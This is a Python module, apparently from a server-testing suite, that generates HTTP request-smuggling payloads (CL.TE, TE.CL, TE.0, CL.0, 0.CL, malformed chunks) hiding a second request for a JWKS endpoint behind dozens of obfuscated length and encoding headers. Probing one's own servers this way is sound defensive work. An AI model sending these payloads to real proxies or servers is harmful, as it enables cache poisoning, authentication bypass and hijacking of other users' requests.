"""Requests on which two servers may disagree: what the literature calls desynchronisation.

A technique is bytes for one connection. A second request, for the public keys, stands in each where
only another reading finds it: in a body, in a header, behind an end that is none.

Families and where they are described: CL.TE, TE.CL, TE.TE (Linhart et al. 2005; Kettle, "HTTP
Desync Attacks", 2019), CL.0 and client-side (Kettle, "Browser-Powered Desync Attacks", 2022), 0.CL
and Expect (Kettle, "HTTP/1.1 must die", 2025), TE.0 (2024), chunk extensions and line terminators
("Funky chunks", 2025), HTTP/2 downgrades (Kettle, "HTTP/2: the sequel is always worse", 2021), h2c
(Bishop Fox, 2020), paths (Tsai, "Breaking parser logic", 2018), and the tables of Http11Probe and
the HTTP Garden.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Final

HOST: Final = b"Host: keys.example\r\n"
HIDDEN: Final = b"GET /.well-known/jwks.json HTTP/1.1\r\n" + HOST + b"\r\n"
BEGUN: Final = b"GET /.well-known/jwks.json HTTP/1.1\r\n" + HOST + b"X-A: "  # takes in what follows
JSON: Final = b'{"data":"aGk="}'
KEY: Final = b"X-API-Key: API_KEY\r\n"
POST: Final = b"POST /crypto/encrypt HTTP/1.1\r\nContent-Type: application/json\r\n" + HOST + KEY
GET: Final = b"GET /health/live HTTP/1.1\r\n" + HOST


@dataclass(frozen=True)
class Technique:
    """One connection: its parts are sent with a pause between them. ``name`` is one of its family.

    ``open_to_all`` is whether its own request may be answered 200 without an API key.
    """

    family: str
    name: str
    parts: tuple[bytes, ...]
    open_to_all: bool = True


def _length(body: bytes) -> bytes:
    return b"Content-Length: %d\r\n" % len(body)


def _chunk(data: bytes) -> bytes:
    return b"%x\r\n%b\r\n" % (len(data), data)


LAST: Final = b"0\r\n\r\n"
TE: Final = b"Transfer-Encoding: chunked\r\n"

_TE_LINES: Final = {
    "plain": TE,
    "space before the colon": b"Transfer-Encoding : chunked\r\n",
    "tab before the colon": b"Transfer-Encoding\t: chunked\r\n",
    "tab after the colon": b"Transfer-Encoding:\tchunked\r\n",
    "no space": b"Transfer-Encoding:chunked\r\n",
    "vertical tab": b"Transfer-Encoding:\x0bchunked\r\n",
    "form feed": b"Transfer-Encoding: \x0cchunked\r\n",
    "NUL behind": b"Transfer-Encoding: chunked\x00\r\n",
    "NUL within": b"Transfer-Encoding: chun\x00ked\r\n",
    "a raw byte before": b"Transfer-Encoding: \xffchunked\r\n",
    "no-break space": b"Transfer-Encoding: \xa0chunked\r\n",
    "xchunked": b"Transfer-Encoding: xchunked\r\n",
    "chunkedx": b"Transfer-Encoding: chunkedx\r\n",
    "capitals": b"Transfer-Encoding: CHUNKED\r\n",
    "capitals in the name": b"TRANSFER-ENCODING: chunked\r\n",
    "the Kelvin sign": "Transfer-Encoding: chun\u212aed\r\n".encode(),
    "quoted": b'Transfer-Encoding: "chunked"\r\n',
    "single quotes": b"Transfer-Encoding: 'chunked'\r\n",
    "a parameter": b"Transfer-Encoding: chunked;a=b\r\n",
    "a comma before": b"Transfer-Encoding: , chunked\r\n",
    "a comma behind": b"Transfer-Encoding: chunked,\r\n",
    "gzip before": b"Transfer-Encoding: gzip, chunked\r\n",
    "identity before": b"Transfer-Encoding: identity, chunked\r\n",
    "identity behind": b"Transfer-Encoding: chunked, identity\r\n",
    "identity": b"Transfer-Encoding: identity\r\n",
    "twice in one": b"Transfer-Encoding: chunked, chunked\r\n",
    "twice": TE + TE,
    "identity, then again": b"Transfer-Encoding: identity\r\n" + TE,
    "again, then identity": TE + b"Transfer-Encoding: identity\r\n",
    "again, then an unknown": TE + b"Transfer-encoding: cow\r\n",
    "empty, then again": b"Transfer-Encoding:\r\n" + TE,
    "folded": b"Transfer-Encoding:\r\n chunked\r\n",
    "folded before the colon": b"Transfer-Encoding\r\n : chunked\r\n",
    "folded into another": b"X-A: b\r\n Transfer-Encoding: chunked\r\n",
    "behind bare LF": b"X-A: b\nTransfer-Encoding: chunked\r\n",
    "behind bare CR": b"X-A: b\rTransfer-Encoding: chunked\r\n",
    "ended by bare LF": b"Transfer-Encoding: chunked\n",
    "ended by CR CR LF": b"Transfer-Encoding: chunked\r\r\n",
    "behind an empty name": b": b\r\nTransfer-Encoding: chunked\r\n",
    "underscore": b"Transfer_Encoding: chunked\r\n",
    "another dash": "Transfer\u2010Encoding: chunked\r\n".encode(),
    "NUL in the name": b"Transfer-Encoding\x00: chunked\r\n",
}


def _te() -> list[Technique]:
    """Each spelling of the coding with a length beside it, of which either may be believed."""
    found = []
    for name, line in _TE_LINES.items():
        body = LAST + HIDDEN  # which a reader of the length takes whole
        found.append(Technique("CL.TE", name, (POST + _length(body) + line + b"\r\n" + body,)))
        chunk = _chunk(BEGUN + b"b") + LAST  # of which the length has the first line
        first = b"Content-Length: %d\r\n" % (chunk.index(b"\n") + 1)
        found.append(Technique("TE.CL", name, (POST + line + first + b"\r\n" + chunk,)))
        found.append(
            Technique("TE.0", name, (POST + line + b"\r\n" + _chunk(HIDDEN) + LAST + HIDDEN,))
        )
    return found


_CL_LINES: Final = {
    "space before the colon": b"Content-Length : %d\r\n",
    "tab after the colon": b"Content-Length:\t%d\r\n",
    "vertical tab": b"Content-Length:\x0b%d\r\n",
    "blank behind": b"Content-Length: %d \r\n",
    "NUL behind": b"Content-Length: %d\x00\r\n",
    "plus": b"Content-Length: +%d\r\n",
    "minus": b"Content-Length: -%d\r\n",
    "leading zero": b"Content-Length: 0%d\r\n",
    "hexadecimal": b"Content-Length: 0x%x\r\n",
    "a fraction": b"Content-Length: %d.0\r\n",
    "an exponent": b"Content-Length: %de0\r\n",
    "a parameter": b"Content-Length: %d;a\r\n",
    "underscore between digits": b"Content-Length: 0_%d\r\n",
    "a list": b"Content-Length: %d, 0\r\n",
    "a list of the same": b"Content-Length: %d,%d\r\n",
    "zero before": b"Content-Length: 0\r\nContent-Length: %d\r\n",
    "zero behind": b"Content-Length: %d\r\nContent-Length: 0\r\n",
    "twice": b"Content-Length: %d\r\nContent-Length: %d\r\n",
    "empty before": b"Content-Length:\r\nContent-Length: %d\r\n",
    "empty behind": b"Content-Length: %d\r\nContent-Length:\r\n",
    "underscore": b"Content_Length: %d\r\n",
    "folded": b"Content-Length:\r\n %d\r\n",
    "a space before it": b" Content-Length: %d\r\n",
    "behind bare LF": b"X-A: b\nContent-Length: %d\r\n",
    "behind bare CR": b"X-A: b\rContent-Length: %d\r\n",
    "behind an empty name": b": b\r\nContent-Length: %d\r\n",
    "ended by bare LF": b"Content-Length: %d\n",
    "none": b"",
    "plain": b"Content-Length: %d\r\n",
}


def _cl() -> list[Technique]:
    """Each spelling of the length before a body that is a request, or one in a good body."""
    found = []
    for name, line in _CL_LINES.items():
        for family, head, body in (
            ("0.CL", GET, HIDDEN),
            ("CL.0", POST, JSON + b" " * 8 + HIDDEN),
        ):
            filled = line % ((len(body),) * line.count(b"%"))
            found.append(Technique(family, name, (head + filled + b"\r\n" + body,)))
    for name, number in (
        ("2^32 more", (1 << 32) + len(HIDDEN)),
        ("2^64 more", (1 << 64) + len(HIDDEN)),
        ("2^63", 1 << 63),
    ):
        head = GET + b"Content-Length: %d\r\n\r\n" % number
        found.append(Technique("0.CL", name, (head + HIDDEN,)))
    wide = "".join(chr(0xFF10 + int(each)) for each in str(len(HIDDEN))).encode()
    found.append(
        Technique("0.CL", "wide digits", (GET + b"Content-Length: " + wide + b"\r\n\r\n" + HIDDEN,))
    )
    return found


_CHUNKS: Final = {
    "well formed": _chunk(JSON) + LAST,
    "an extension": b"f;a=b\r\n" + JSON + b"\r\n" + LAST,
    "a quoted extension": b'f;a="b;c"\r\n' + JSON + b"\r\n" + LAST,
    "line end in a quoted extension": b'f;a="\r\n' + JSON + b"\r\n" + LAST,
    "bare LF in an extension": b"f;\n" + JSON + b"\r\n" + LAST,
    "bare LF in an extension, hiding": b"2;\nxx\r\n%x\r\n" % len(HIDDEN)
    + LAST
    + HIDDEN
    + b"\r\n"
    + LAST,
    "bare CR in an extension": b"f;\rb\r\n" + JSON + b"\r\n" + LAST,
    "NUL in an extension": b"f;\x00\r\n" + JSON + b"\r\n" + LAST,
    "a long extension": b"f;" + b"a" * 20_000 + b"\r\n" + JSON + b"\r\n" + LAST,
    "a semicolon alone": b"f;\r\n" + JSON + b"\r\n" + LAST,
    "a blank before the semicolon": b"f ;a\r\n" + JSON + b"\r\n" + LAST,
    "bare LF behind the size": b"f\n" + JSON + b"\r\n" + LAST,
    "bare CR behind the size": b"f\r" + JSON + b"\r\n" + LAST,
    "CR CR LF behind the size": b"f\r\r\n" + JSON + b"\r\n" + LAST,
    "bare LF behind the data": b"f\r\n" + JSON + b"\n" + LAST,
    "nothing behind the data": b"f\r\n" + JSON + LAST,
    "two bytes behind the data": b"f\r\n" + JSON + b"XX0\r\n\r\n",
    "more data than the size": b"2\r\n" + JSON + b"\r\n" + LAST,
    "less data than the size": b"20\r\n" + JSON + b"\r\n" + LAST + HIDDEN,
    "0x": b"0xf\r\n" + JSON + b"\r\n" + LAST,
    "plus": b"+f\r\n" + JSON + b"\r\n" + LAST,
    "minus": b"-f\r\n" + JSON + b"\r\n" + LAST,
    "underscore": b"0_f\r\n" + JSON + b"\r\n" + LAST,
    "blank before the size": b" f\r\n" + JSON + b"\r\n" + LAST,
    "blank behind the size": b"f \r\n" + JSON + b"\r\n" + LAST,
    "tab behind the size": b"f\t\r\n" + JSON + b"\r\n" + LAST,
    "many zeros": b"0" * 30 + b"f\r\n" + JSON + b"\r\n" + LAST,
    "2^32 more": b"10000000f\r\n" + JSON + b"\r\n" + LAST + HIDDEN,
    "2^64 more": b"1000000000000000f\r\n" + JSON + b"\r\n" + LAST + HIDDEN,
    "seventeen digits": b"f" * 17 + b"\r\n" + JSON + b"\r\n" + LAST + HIDDEN,
    "no size": b"\r\n" + JSON + b"\r\n" + LAST,
    "wide digits": "\uff16\r\n".encode() + JSON[:6] + b"\r\n" + LAST,
    "three zeros last": _chunk(JSON) + b"000\r\n\r\n",
    "an extension last": _chunk(JSON) + b"0;a=b\r\n\r\n",
    "bare LF twice last": _chunk(JSON) + b"0\n\n",
    "bare LF last": _chunk(JSON) + b"0\r\n\n",
    "bare CR last": _chunk(JSON) + b"0\r\n\rX",
    "no last line": _chunk(JSON) + b"0\r\n" + HIDDEN,
    "a trailer": _chunk(JSON) + b"0\r\nX-B: c\r\n\r\n",
    "Content-Length as a trailer": _chunk(JSON) + b"0\r\n" + _length(HIDDEN) + b"\r\n",
    "Transfer-Encoding as a trailer": _chunk(JSON) + b"0\r\n" + TE + b"\r\n",
    "an API key as a trailer": _chunk(JSON) + b"0\r\nX-API-Key: another\r\n\r\n",
    "a trailer ended by bare LF": _chunk(JSON) + b"0\r\nX-B: c\n\n",
    "a trailer that is a request": _chunk(JSON) + b"0\r\nGET /keys HTTP/1.1\r\n\r\n",
    "a trailer that is folded": _chunk(JSON) + b"0\r\nX-B: c\r\n d\r\n\r\n",
    "a request in a chunk": _chunk(JSON + b" " * 4) + _chunk(HIDDEN) + LAST,
    "each byte a chunk": b"".join(_chunk(JSON[i : i + 1]) for i in range(len(JSON))) + LAST,
}


def _chunks() -> list[Technique]:
    """Bodies in chunks, with a request behind that is one for a reader of another end."""
    return [
        Technique("chunks", name, (POST + TE + b"\r\n" + body + HIDDEN,))
        for name, body in _CHUNKS.items()
    ]


def framing() -> list[Technique]:
    """All that is about where a body ends."""
    return [*_te(), *_cl(), *_chunks()]
